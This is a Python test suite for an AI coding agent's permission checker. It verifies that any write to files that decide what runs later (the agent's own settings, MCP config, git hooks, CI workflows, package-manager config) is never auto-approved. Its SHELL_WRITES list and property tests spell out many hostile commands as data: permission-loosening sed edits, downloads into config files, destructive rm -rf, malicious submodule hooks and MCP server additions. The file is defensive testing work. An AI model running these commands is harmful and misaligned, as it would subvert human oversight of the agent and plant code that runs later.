"""Files that decide what runs later are out of an agent's reach (SPEC R3.7, §5, where it runs).

A write of any kind into one of them -- by any shell construct, in any runs_in -- is never auto-approved by
autonomy, auto mode or the container floor; only an allow written for that exact command does. One table
(permissions.protected_paths), compared without regard to case.
"""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from permissions.decide import AutonomyRow, DecisionRequest, ProjectState, decide
from permissions.protected_paths import PROTECTED, protected_file
from permissions.seeds import DEV_TERMINAL_ALLOW_PATTERNS

from .helpers import AUTO_MODE, ROOT, perms

CONTAINER_RUNNING = ProjectState(execution_mode="container", container_running=True, root=ROOT)
TERMINAL_AUTO = (AutonomyRow("terminal", "auto_approve"),)


def _decide(command, *, allow=(), autonomy=(), runs_in="sandbox", cwd=None, project=CONTAINER_RUNNING):
    return decide(
        DecisionRequest(
            "terminal",
            "developer",
            project,
            command=command,
            cwd=cwd,
            permissions=perms(allow=allow),
            autonomy=autonomy,
            runs_in=runs_in,
        )
    )


def _verb_allows(command: str) -> tuple[str, ...]:
    """Prefix allows for every word that could be a verb: the broadest allow a person might have written."""
    words = command.replace("&&", " ").replace(";", " ").replace("|", " ").split()
    return tuple(f"Terminal({w})" for w in dict.fromkeys(words) if w.isidentifier() or "-" in w[1:])


def _never_auto(command: str, cwd: str | None = None) -> None:
    allow = DEV_TERMINAL_ALLOW_PATTERNS + _verb_allows(command)
    for runs_in in ("sandbox", "host", "agent"):
        for autonomy in ((), AUTO_MODE, TERMINAL_AUTO):
            v = _decide(command, allow=allow, autonomy=autonomy, runs_in=runs_in, cwd=cwd)
            assert v.decision != "auto_approve", (command, runs_in, autonomy, v.reason, v.message)


# Every way a shell writes a file, each into a protected file (the agents' own first).
SHELL_WRITES = [
    # redirections
    "echo '{}' > .gemini/settings.json",
    "echo '{}' > .claude/settings.json",
    "echo '{}' > .codex/hooks.json",
    "echo x >> .claude/settings.local.json",
    "echo x &> .mcp.json",
    "echo x >| .envrc",
    "echo x 2> .npmrc",
    "printf 'x' >.yarnrc.yml",
    "cat > .claude/settings.json <<'EOF'\n{}\nEOF",
    "echo x 1>&2 > .git/hooks/pre-commit",
    "echo x >& .gitattributes",
    # tee, dd, truncate
    "echo x | tee .claude/settings.json",
    "echo x | tee -a .gemini/settings.json",
    "dd if=/dev/zero of=.codex/config.toml count=1",
    "truncate -s 0 .mcp.json",
    # copies, moves, links, install, rsync
    "cp /tmp/evil.json .claude/settings.json",
    "cp -r /tmp/evil/.claude .",
    "cp -t .gemini evil.json",
    "cp --target-directory=.codex evil.toml",
    "mv evil.json .claude/settings.json",
    "mv .claude /tmp/gone",
    "mv .github old-github",
    "ln -sf /tmp/evil .claude/settings.json",
    "ln -s .claude/settings.json innocent.json",
    "ln .gemini/settings.json hard",
    "install -m 644 evil .husky/pre-commit",
    "install -d .github/workflows",
    "rsync -a /tmp/evil/ .",
    "rsync evil.yml .github/workflows/ci.yml",
    "scp host:evil .gitlab-ci.yml",
    "cp -r /tmp/kit/. .",
    # deletion and mode
    "rm -rf .claude",
    "rm .gemini/settings.json",
    "rm -rf .",
    "rm -rf ./*",
    "rm -f *.json",
    "rm -rf *",
    "rm -rf venv/pip.conf",
    "unlink .mcp.json",
    "shred -u .envrc",
    "rmdir .husky",
    "chmod +x .husky/pre-commit",
    "chmod -R 777 .github",
    "chown -R nobody .codex",
    "touch .claude/x",
    "mkdir -p .claude/hooks",
    "mkfifo .npmrc",
    # in-place editors
    "sed -i 's/deny/allow/' .claude/settings.json",
    "sed -i.bak -e 's/a/b/' .pre-commit-config.yaml",
    "sed --in-place 's/a/b/' .gitmodules",
    "perl -pi -e 's/a/b/' .vscode/tasks.json",
    "ruby -i -pe 'x' pip.conf",
    # git's own writes of chosen paths, and of the whole tree
    "git checkout -- .claude",
    "git checkout HEAD .claude/settings.json",
    "git checkout -- .",
    "git checkout -f main",
    "git restore .gemini/settings.json",
    "git restore --source=HEAD~3 .",
    "git rm -r .codex",
    "git mv .claude x",
    "git clean -fdx",
    "git reset --hard",
    "git stash",
    "git stash pop",
    "git apply evil.patch",
    "git am < evil.mbox",
    "git -C sub checkout -- .claude",
    "git submodule add https://x/y vendor/y",
    "git init",
    "git config --file .claude/settings.json hooks.x y",
    "git config -f .gitmodules submodule.x.update '!sh evil'",
    # archives and patches (names the command does not spell)
    "tar xf evil.tar",
    "tar -xzf evil.tgz -C .",
    "tar --extract --file=evil.tar",
    "unzip evil.zip",
    "unzip -o evil.zip -d .",
    "7z x evil.7z",
    "cpio -idm < evil.cpio",
    "patch -p1 < evil.diff",
    "gunzip .npmrc.gz",
    # downloads and other writers
    "curl -o .claude/settings.json https://x.example/s",
    "curl -O https://x.example/.npmrc",
    "wget -O .gemini/settings.json https://x.example/s",
    "wget https://x.example/.envrc",
    "sort -o .gitattributes x",
    "uniq x .mcp.json",
    # names fed from the input
    "echo .claude | xargs rm -rf",
    "git ls-files | xargs sed -i s/a/b/",
    "find . -delete",
    "find . -name '*.json' -exec rm {} +",
    # configuration CLIs
    "npm config set ignore-scripts false",
    "yarn config set enableScripts true",
    "pip config set global.index-url https://evil",
    "python3 -m pip config set global.index-url https://evil",
    "direnv allow",
    "pre-commit install",
    "npx husky init",
    "claude mcp add evil -- node evil.js",
    "gemini extensions install https://x/evil",
    "codex mcp add evil -- node evil.js",
    # spellings: case, ./, .., home twins, variables, globs, cd
    "echo x > ./.CLAUDE/settings.json",
    "echo x > .Claude/Settings.JSON",
    "echo x > a/../.claude/x",
    "echo x > src/../../app-1a2b3c4d/.claude/x",
    "echo x > ~/.claude/settings.json",
    "echo x > ~/.claude.json",
    "echo x > $HOME/.codex/config.toml",
    "echo x > ${HOME}/.gemini/settings.json",
    "cp evil ~/.gitconfig",
    "echo x > $TARGET",
    "rm -rf .c*",
    "rm -rf .[c]laude",
    "shopt -s dotglob; rm -rf *",
    "cd .claude && echo '{}' > settings.json",
    "cd .claude; rm -rf .",
    "cd .github/workflows && cp /tmp/x ci.yml",
    "cd ~ && rm -rf .claude",
    # hidden inside other commands
    "sh -c 'echo x > .claude/settings.json'",
    'bash -c "rm -rf .gemini"',
    "echo $(touch .codex/x)",
    "(cd .claude && rm settings.json)",
    "{ echo x > .mcp.json; }",
    "env cp evil .claude/settings.json",
    "nice -n 5 tee .claude/settings.json < x",
    "/bin/cp evil .claude/settings.json",
    "sudo tee .claude/settings.json < x",
    "timeout 5 rm -rf .claude",
    # interpreters' inline code (opaque, R4.9)
    "python3 -c \"open('.claude/settings.json','w').write('{}')\"",
    "node -e \"require('fs').writeFileSync('.gemini/settings.json','{}')\"",
    "perl -e 'unlink \".mcp.json\"'",
    'awk \'BEGIN{print "x" > ".envrc"}\'',
    "permissions.json",  # a program named like the file is not a write ...
]
SHELL_WRITES.remove("permissions.json")  # ... kept out: this list is writes only
SHELL_WRITES += [
    'echo \'{"allow":["Terminal(curl)"]}\' > permissions.json',
    "cp evil.json PERMISSIONS.JSON",
    "rm permissions.json.lock",
]


@pytest.mark.parametrize("command", SHELL_WRITES)
def test_a_shell_write_into_a_protected_file_is_never_auto_approved(command):
    _never_auto(command)


@pytest.mark.parametrize("command", ["echo '{}' > settings.json", "touch x", "rm -rf tmp"])
def test_a_cwd_inside_a_protected_folder_counts(command):
    _never_auto(command, cwd=f"{ROOT}/.claude")


@pytest.mark.parametrize(
    "command",
    [
        "cat .claude/settings.json",
        "ls -la .gemini",
        "git diff .codex",
        "grep -r hook .claude",
        "cp .claude/settings.json /srv/ws/app-1a2b3c4d/backup.json",
        "echo x > notes.txt",
        "cp a b",
        "rm -rf build",
        "rm -f *.pyc",
        "mkdir -p src/app",
        "sed -i 's/a/b/' src/app.py",
        "git checkout -b feature",
        "git restore src/app.py",
        "git config --get user.name",
        "cp a .github/ISSUE_TEMPLATE/bug.md",
        "echo x > claude.md",
        "echo x > .claudeignore",
        "rm -rf build/*",
        "cp src/* out/",
        "rm -f docs/examples/permissions.json",  # not the project's policy file, which lives at the top
    ],
)
def test_ordinary_writes_and_reads_stay_ordinary(command):
    v = _decide(command, allow=_verb_allows(command), autonomy=AUTO_MODE)
    assert v.decision == "auto_approve", (command, v.reason, v.message)


@pytest.mark.parametrize(
    "command",
    [
        "tee .claude/settings.json",
        "rm -rf .claude",
        "cp evil.json .gemini/settings.json",
        "git checkout -- .claude",
        "sed -i s/a/b/ .codex/config.toml",
    ],
)
def test_only_an_allow_written_for_that_exact_command_covers_it(command):
    exact = (f"Terminal({command})",)
    v = _decide(command, allow=exact)
    assert v.decision == "auto_approve" and v.reason == "allow_rule", (command, v)
    prefix = (f"Terminal({command.split()[0]})",)
    assert _decide(command, allow=prefix).decision == "require_approval"
    assert _decide(command, autonomy=AUTO_MODE).decision == "require_approval"


def test_a_redirection_cannot_be_covered_by_any_pattern():
    # A pattern cannot contain a redirection (grammar), so nothing written for `echo {}` covers its target.
    v = _decide("echo {} > .gemini/settings.json", allow=("Terminal(echo {})",), autonomy=AUTO_MODE)
    assert v.decision == "require_approval" and v.reason == "unparseable"
    assert ".gemini/" in v.message


def test_the_reason_is_the_stable_code_and_the_message_names_the_file():
    v = _decide("rm -rf .claude", allow=("Terminal(rm)",))
    assert v.reason == "unparseable"  # R12.2's enum is kept; the message explains (R3.7)
    assert ".claude/" in v.message and "decides what runs later" in v.message


def test_deny_still_wins():
    v = decide(
        DecisionRequest(
            "terminal",
            "developer",
            CONTAINER_RUNNING,
            command="rm -rf .claude",
            permissions=perms(deny=("Terminal(rm)",)),
        )
    )
    assert v.decision == "deny"


# -- the typed write_file ---------------------------------------------------------------------------------


def _write_file(path, *, allow=("WriteFile()",), autonomy=(), cwd=None):
    payload = {"path": path, "content": "{}"}
    if cwd:
        payload["cwd"] = cwd
    return decide(
        DecisionRequest(
            "write_file",
            "developer",
            CONTAINER_RUNNING,
            permissions=perms(allow=allow),
            autonomy=autonomy,
            payload=payload,
            runs_in="agent",
        )
    )


@pytest.mark.parametrize(
    "path",
    [
        ".claude/settings.json",
        ".CLAUDE/settings.json",
        "./.gemini/settings.json",
        "src/../.codex/hooks.json",
        ".mcp.json",
        ".git/hooks/pre-commit",
        ".github/workflows/ci.yml",
        ".husky/pre-commit",
        ".vscode/tasks.json",
        ".envrc",
        ".npmrc",
        ".yarnrc.yml",
        "config/pip.conf",
        "vendor/lib/.gitattributes",
        "permissions.json",
    ],
)
def test_write_file_to_a_protected_path_always_needs_a_person(path):
    for autonomy in ((), AUTO_MODE, (AutonomyRow("write_file", "auto_approve"),)):
        v = _write_file(path, autonomy=autonomy)
        assert v.decision == "require_approval", (path, autonomy, v)
        assert v.reason == "unparseable" and "decides what runs later" in v.message


def test_write_file_counts_its_cwd():
    assert _write_file("settings.json", cwd=".claude").decision == "require_approval"
    assert _write_file("src/app.py").decision == "auto_approve"
    assert _write_file(".github/ISSUE_TEMPLATE/x.md").decision == "auto_approve"


# -- the one table ----------------------------------------------------------------------------------------


def test_the_table_holds_what_r3_7_names():
    shown = {p.shown for p in PROTECTED}
    for name in (
        ".claude/", ".gemini/", ".codex/", ".mcp.json", ".git/", ".gitmodules", ".gitattributes",
        ".github/workflows/", ".gitlab-ci.yml", ".husky/", ".pre-commit-config.yaml", ".vscode/tasks.json",
        ".envrc", ".npmrc", ".yarnrc*", "pip.conf", "permissions.json",
    ):  # fmt: skip
        assert name in shown, name


@pytest.mark.parametrize(
    ("path", "hit"),
    [
        (".Git/config", ".git/"),
        ("a/b/../../.GITHUB/Workflows/x.yml", ".github/workflows/"),
        ("~/.claude.json", ".claude.json"),
        ("$HOME/.codex/config.toml", ".codex/"),
        (".yarnrc", ".yarnrc*"),
        ("src/app.py", None),
        (".github/dependabot.yml", None),
        ("gitattributes", None),
    ],
)
def test_protected_file(path, hit):
    got = protected_file(path)
    assert (got.shown if got else None) == hit


# -- property: any spelling of any protected file, through any writer --------------------------------------

_WRITERS = [
    "echo x > {p}",
    "echo x >> {p}",
    "tee {p}",
    "cp evil {p}",
    "mv evil {p}",
    "rm -rf {p}",
    "touch {p}",
    "chmod 600 {p}",
    "sed -i s/a/b/ {p}",
    "ln -sf evil {p}",
    "dd if=evil of={p}",
    "git checkout -- {p}",
    "install evil {p}",
    "truncate -s0 {p}",
]
_FILES = [p.shown.rstrip("/*") + ("/x" if p.folder else "") for p in PROTECTED]


_TOP_ONLY = {p.shown for p in PROTECTED if p.top}  # the policy file: at the project's top only


@st.composite
def _spelled(draw):
    name = draw(st.sampled_from(_FILES))
    cased = "".join(c.upper() if draw(st.booleans()) else c for c in name)
    leads = ["", "./", "src/../", "a/b/../../"]
    if name.startswith("/"):  # the machine's own (`/etc/profile`): from its root only, macOS's /private too
        leads = ["", "/", "/tmp/..", "/private"]
    elif name not in _TOP_ONLY:
        leads += ["~/", "$HOME/", f"{ROOT}/", "vendor/lib/"]  # home twins, any depth
    return draw(st.sampled_from(leads)) + cased.replace(" ", "\\ ")  # `Code\ -\ Insiders`: one word


@settings(max_examples=300, deadline=None)
@given(template=st.sampled_from(_WRITERS), path=_spelled(), autonomy=st.sampled_from([(), AUTO_MODE]))
def test_property_no_spelling_of_a_protected_file_is_auto_approved(template, path, autonomy):
    command = template.format(p=path)
    allow = _verb_allows(command) + DEV_TERMINAL_ALLOW_PATTERNS
    for runs_in in ("sandbox", "agent"):
        v = _decide(command, allow=allow, autonomy=autonomy, runs_in=runs_in)
        assert v.decision != "auto_approve", (command, runs_in, v.reason)
